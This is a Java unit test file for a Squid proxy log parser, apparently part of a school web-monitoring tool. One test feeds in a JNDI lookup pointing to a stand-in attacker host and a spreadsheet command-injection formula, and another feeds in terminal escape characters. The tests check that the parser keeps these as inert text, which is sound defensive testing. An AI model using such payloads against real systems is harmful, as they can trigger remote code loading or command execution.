package org.trustwatch.ingest.proxy;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.trustwatch.ingest.proxy.RecordingSink.assertNoControls;
import static org.trustwatch.ingest.proxy.RecordingSink.context;
import static org.trustwatch.ingest.proxy.RecordingSink.one;
import static org.trustwatch.ingest.proxy.RecordingSink.parse;
import static org.trustwatch.ingest.proxy.RecordingSink.rejected;

import java.time.Instant;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.trustwatch.ingest.LineDigest;
import org.trustwatch.ingest.LogFormat;
import org.trustwatch.ingest.category.WebCategories;
import org.trustwatch.schema.ProxyEvent;
import org.trustwatch.schema.WebAction;

class SquidParserTest {

    private static final Map<String, String> LIST = Map.of(
            "drive.google.com", "file-sharing",
            "pornhub.com", "adult",
            "www.bbc.co.uk", "education");

    private final WebCategories categories = LIST::get;

    private SquidParser parser() {
        return new SquidParser(context(categories));
    }

    @Test
    void readsAnAllowedRequestWithoutTheQueryString() {
        String line = "1709629931.123    161 10.20.1.15 TCP_MISS/200 103701 GET"
                + " http://www.BBC.co.uk/news/education-6813?utm_source=pupil - HIER_DIRECT/151.101.0.81 text/html";
        ProxyEvent event = one(parser(), line);

        assertEquals(Instant.parse("2024-03-05T09:12:11.123Z"), event.getTimestamp());
        assertEquals(RecordingSink.INGEST, event.getEventIngested());
        assertEquals("squid.access", event.getEventDataset());
        assertEquals("WOH", event.getSchoolId());
        assertEquals("test.log", event.getLogFilePath());
        assertEquals(1L, event.getLogLine());
        assertEquals(LineDigest.sha256Hex(line), event.getEventHash());
        assertNull(event.getEventOriginal(), "original line not kept by default");
        assertEquals("10.20.1.15", event.getSourceIp());
        assertNull(event.getUserName());
        assertEquals("GET", event.getHttpRequestMethod());
        assertEquals("http", event.getUrlScheme());
        assertEquals("www.bbc.co.uk", event.getUrlDomain());
        assertNull(event.getUrlPort());
        assertEquals("/news/education-6813", event.getUrlPath());
        assertNull(event.getUrlExtension());
        assertEquals(200, event.getHttpResponseStatusCode());
        assertEquals(103701L, event.getHttpResponseBytes());
        assertNull(event.getHttpRequestBytes(), "no 11th field");
        assertEquals("text/html", event.getHttpResponseMimeType());
        assertEquals("TCP_MISS", event.getProxyResultCode());
        assertEquals(WebAction.allowed, event.getWebAction());
        assertEquals("education", event.getWebCategory());
        assertEquals("list", event.getWebCategorySource());
    }

    @Test
    void readsTheRequestSizeOfTheEleventhFieldAndAConnectTarget() {
        ProxyEvent event = one(
                parser(),
                "1709629931.500   2201 10.20.4.33 TCP_TUNNEL/200 5321877 CONNECT drive.google.com:443 21smithj"
                        + " HIER_DIRECT/142.250.187.206 - 6104233");

        assertEquals("CONNECT", event.getHttpRequestMethod());
        assertEquals("drive.google.com", event.getUrlDomain());
        assertEquals(443, event.getUrlPort());
        assertNull(event.getUrlScheme());
        assertNull(event.getUrlPath());
        assertEquals("21smithj", event.getUserName());
        assertEquals(6104233L, event.getHttpRequestBytes());
        assertEquals(5321877L, event.getHttpResponseBytes());
        assertNull(event.getHttpResponseMimeType());
        assertEquals("file-sharing", event.getWebCategory(), "subdomain lookups are the list's job; exact here");
    }

    @Test
    void keepsTheBumpedConnectAndTheAuthenticationChallengeForTheRules() {
        RecordingSink sink = parse(
                parser(),
                "1709629932.010      0 10.20.1.15 NONE_NONE/200 0 CONNECT 142.250.187.206:443 jsmith HIER_NONE/- -",
                "1709629932.020      1 10.20.1.16 TCP_DENIED/407 3985 GET http://www.pornhub.com/ - HIER_NONE/- text/html");
        assertTrue(sink.rejects.isEmpty(), sink.rejects::toString);

        ProxyEvent connect = sink.events.get(0);
        assertEquals("NONE_NONE", connect.getProxyResultCode());
        assertEquals("CONNECT", connect.getHttpRequestMethod());
        assertEquals(200, connect.getHttpResponseStatusCode());
        assertEquals(0L, connect.getHttpResponseBytes());
        assertEquals("142.250.187.206", connect.getUrlDomain());
        assertEquals(WebAction.allowed, connect.getWebAction());

        ProxyEvent challenge = sink.events.get(1);
        assertEquals("TCP_DENIED", challenge.getProxyResultCode());
        assertEquals(407, challenge.getHttpResponseStatusCode());
        assertEquals(WebAction.blocked, challenge.getWebAction());
        assertEquals("www.pornhub.com", challenge.getUrlDomain());
    }

    @Test
    void blockedWhenDeniedOrWhenSquidItselfAnswered403() {
        ProxyEvent denied = one(
                parser(),
                "1709629933.000      3 10.20.1.15 TCP_DENIED/403 4099 GET http://pornhub.com/view?x=1 jsmith"
                        + " HIER_NONE/- text/html");
        assertEquals(WebAction.blocked, denied.getWebAction());
        assertEquals("adult", denied.getWebCategory());

        ProxyEvent icapBlock = one(
                parser(),
                "1709629933.000      3 10.20.1.15 TCP_MISS/403 1200 GET http://www.example.com/ jsmith HIER_NONE/-"
                        + " text/html");
        assertEquals(WebAction.blocked, icapBlock.getWebAction());

        ProxyEvent originForbidden = one(
                parser(),
                "1709629933.000     80 10.20.1.15 TCP_MISS/403 1200 GET http://www.example.com/ jsmith"
                        + " HIER_DIRECT/93.184.216.34 text/html");
        assertEquals(WebAction.allowed, originForbidden.getWebAction(), "the web site said 403, not the filter");
    }

    @Test
    void decodesDomainAccountsAndLowerCasesExtensions() {
        ProxyEvent event = one(
                parser(),
                "1709629934.250    912 10.20.2.40 TCP_MISS/200 48211000 GET"
                        + " https://dl.example.net:8443/tools/Setup.EXE WOH%5Cjsmith HIER_DIRECT/203.0.113.9"
                        + " application/octet-stream;charset=binary");
        assertEquals("jsmith", event.getUserName());
        assertEquals("https", event.getUrlScheme());
        assertEquals("dl.example.net", event.getUrlDomain());
        assertEquals(8443, event.getUrlPort());
        assertEquals("/tools/Setup.EXE", event.getUrlPath());
        assertEquals("exe", event.getUrlExtension());
        assertEquals("application/octet-stream", event.getHttpResponseMimeType());
        assertNull(event.getWebCategory());
        assertNull(event.getWebCategorySource());
    }

    @Test
    void statusZeroIsNoStatusAndTimeMayHaveNoFraction() {
        ProxyEvent event = one(
                parser(),
                "1709629935 15 10.20.1.15 TCP_MISS_ABORTED/000 0 GET http://www.example.com/a.js - HIER_NONE/- -");
        assertEquals(Instant.parse("2024-03-05T09:12:15Z"), event.getTimestamp());
        assertNull(event.getHttpResponseStatusCode());
        assertEquals("TCP_MISS_ABORTED", event.getProxyResultCode());
        assertEquals("js", event.getUrlExtension());
    }

    @Test
    void readsTheLineBehindASyslogHeader() {
        ProxyEvent event = one(
                parser(),
                "Mar  5 09:12:11 proxy1 squid[812]: 1709629931.123    161 10.20.1.15 TCP_MISS/200 1037 GET"
                        + " http://www.example.com/ - HIER_DIRECT/93.184.216.34 text/html");
        assertEquals("proxy1", event.getObserverHostname());
        assertEquals(Instant.parse("2024-03-05T09:12:11.123Z"), event.getTimestamp());

        ProxyEvent rfc3339 = one(
                parser(),
                "2024-03-05T09:12:11.200+00:00 proxy2 squid: 1709629931.123 161 10.20.1.15 TCP_MISS/200 1037 GET"
                        + " http://www.example.com/ - HIER_DIRECT/93.184.216.34 text/html");
        assertEquals("proxy2", rfc3339.getObserverHostname());
    }

    @Test
    void skipsBlankLinesAndComments() {
        RecordingSink sink = parse(parser(), "", "   ", "# logfile rotated", "\t");
        assertTrue(sink.events.isEmpty());
        assertTrue(sink.rejects.isEmpty());
    }

    @Test
    void rejectsAResultWithoutStatus() {
        String reason = rejected(
                parser(),
                "1709629931.123 161 10.20.1.15 TCP_MISS200 103701 GET http://x.example/ - HIER_DIRECT/1.2.3.4"
                        + " text/html");
        assertTrue(reason.startsWith("field 4 (result/status) 'TCP_MISS200'"), reason);
    }

    @Test
    void rejectsTruncatedLinesWithTheFieldCount() {
        String reason = rejected(parser(), "1709629931.123    161 10.20.1.15 TCP_MISS/200 1037");
        assertTrue(reason.startsWith("has 5 field(s), a Squid native access.log line has 10"), reason);
    }

    @Test
    void rejectsOtherFormatsNamingTheTimeField() {
        String reason = rejected(
                parser(),
                "10.20.1.15 - jsmith [05/Mar/2024:09:12:11 +0000] \"GET http://www.example.com/ HTTP/1.1\" 200 1037"
                        + " \"-\" \"Mozilla/5.0\" TCP_MISS:HIER_DIRECT");
        assertTrue(reason.startsWith("field 1 (time) '10.20.1.15' is not epoch seconds"), reason);

        assertTrue(rejected(parser(), "-1709629931.123 1 10.20.1.15 TCP_MISS/200 1 GET http://a.example/ - - -")
                .startsWith("field 1 (time)"));
        assertTrue(rejected(parser(), "1709629931.123 fast 10.20.1.15 TCP_MISS/200 1 GET http://a.example/ - - -")
                .startsWith("field 2 (elapsed ms) 'fast'"));
        assertTrue(rejected(parser(), "1709629931.123 1 10.20.1.15 TCP_MISS/OK 1 GET http://a.example/ - - -")
                .contains("has no HTTP status"));
        assertTrue(rejected(parser(), "1709629931.123 1 10.20.1.15 TCP_MISS/200 lots GET http://a.example/ - - -")
                .startsWith("field 5 (size) 'lots'"));
    }

    @Test
    void acceptsReplacementCharactersOfInvalidUtf8() {
        ProxyEvent event = one(
                parser(),
                "1709629931.123 161 10.20.1.15 TCP_MISS/200 1037 GET http://www.example.com/caf\uFFFD.html"
                        + " j\uFFFDsmith HIER_DIRECT/93.184.216.34 text/html");
        assertEquals("j\uFFFDsmith", event.getUserName());
        assertEquals("/caf\uFFFD.html", event.getUrlPath());
        assertEquals("html", event.getUrlExtension());
    }

    @Test
    void keepsControlCharactersOutOfFields() {
        RecordingSink sink = parse(
                parser(),
                "1709629931.123 161 10.20.1.15 TCP_MISS/200 1037 GET http://www.example.com/\u001b[2Jx"
                        + " jsmith\u0000 HIER_DIRECT/93.184.216.34 text/html",
                "1709629931.123 161 10.20.1.15 TCP_MISS/200 1037 GET http://www.example.com/ WOH%0Ajsmith%0D"
                        + " HIER_DIRECT/93.184.216.34 text/html");
        assertEquals(2, sink.events.size() + sink.rejects.size());
        sink.events.forEach(RecordingSink::assertNoControls);
        ProxyEvent decoded = sink.events.get(sink.events.size() - 1);
        assertEquals("WOH jsmith", decoded.getUserName(), "an encoded newline must not survive decoding");
    }

    @Test
    void keepsInjectionAttemptsAsPlainData() {
        ProxyEvent event = one(
                parser(),
                "1709629931.123 161 10.20.1.15 TCP_MISS/200 1037 GET http://x.example/=cmd|'/C%20calc'!A0"
                        + " ${jndi:ldap://evil.example/a} HIER_DIRECT/93.184.216.34 \"text/html\"");
        assertEquals("${jndi:ldap://evil.example/a}", event.getUserName());
        assertEquals("/=cmd|'/C%20calc'!A0", event.getUrlPath());
        assertEquals("\"text/html\"", event.getHttpResponseMimeType());
        assertNoControls(event);
    }

    @Test
    void survivesVeryLongLinesAndQuotesLittleOfThem() {
        String longPath = "a".repeat(1 << 20);
        ProxyEvent event = one(
                parser(),
                "1709629931.123 161 10.20.1.15 TCP_MISS/200 1037 GET http://www.example.com/" + longPath
                        + " - HIER_DIRECT/93.184.216.34 text/html");
        assertEquals("www.example.com", event.getUrlDomain());

        String reason = rejected(parser(), "x".repeat(1 << 20) + " 1 2 3 4 5 6 7 8 9 10");
        assertTrue(reason.length() < 200, reason);
        assertTrue(reason.contains("'" + "x".repeat(60) + "...'"), reason);

        RecordingSink spaces = parse(parser(), " ".repeat(1 << 20) + "x");
        assertEquals(1, spaces.rejects.size());
    }

    @Test
    void keepsTheOriginalLineOnlyWhenConfigured() {
        String line = "1709629931.123 161 10.20.1.15 TCP_MISS/200 1037 GET http://a.example/ - HIER_NONE/- -";
        var keeping = new org.trustwatch.ingest.ParseContext(
                null, RecordingSink.context(categories).zone(), categories, true, java.time.Clock.systemUTC());
        ProxyEvent event = one(new SquidParser(keeping), line);
        assertEquals(line, event.getEventOriginal());
        assertNull(event.getSchoolId());
    }

    @Test
    void looksUpSubdomainsInALoadedCategoryList(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir)
            throws java.io.IOException {
        java.nio.file.Path csv = dir.resolve("categories.csv");
        java.nio.file.Files.writeString(csv, "domain,category\ngoogle.com,education\ndrive.google.com,file-sharing\n");
        var errors = new org.trustwatch.ingest.Problems();
        SquidParser parser =
                new SquidParser(context(org.trustwatch.ingest.category.WebCategoryLists.load(csv, errors)));
        RecordingSink sink = parse(
                parser,
                "1709629931.500 2201 10.20.4.33 TCP_TUNNEL/200 5321 CONNECT eu.drive.google.com:443 21smithj"
                        + " HIER_DIRECT/142.250.187.206 - 6104233",
                "1709629931.600 220 10.20.4.33 TCP_MISS/200 5321 GET https://classroom.google.com/ 21smithj"
                        + " HIER_DIRECT/142.250.187.206 text/html",
                "1709629931.700 220 10.20.4.33 TCP_TUNNEL/200 5321 CONNECT eu.drive.google.com:443 21smithj"
                        + " HIER_DIRECT/142.250.187.206 -");
        assertTrue(errors.isEmpty());
        assertEquals("file-sharing", sink.events.get(0).getWebCategory());
        assertEquals("list", sink.events.get(0).getWebCategorySource());
        assertEquals("education", sink.events.get(1).getWebCategory());
        assertEquals("file-sharing", sink.events.get(2).getWebCategory(), "cached lookups give the same answer");
    }

    @Test
    void isTheParserOfTheSquidFormat() {
        assertTrue(LogFormat.named("squid").newParser(context(categories)) instanceof SquidParser);
    }
}
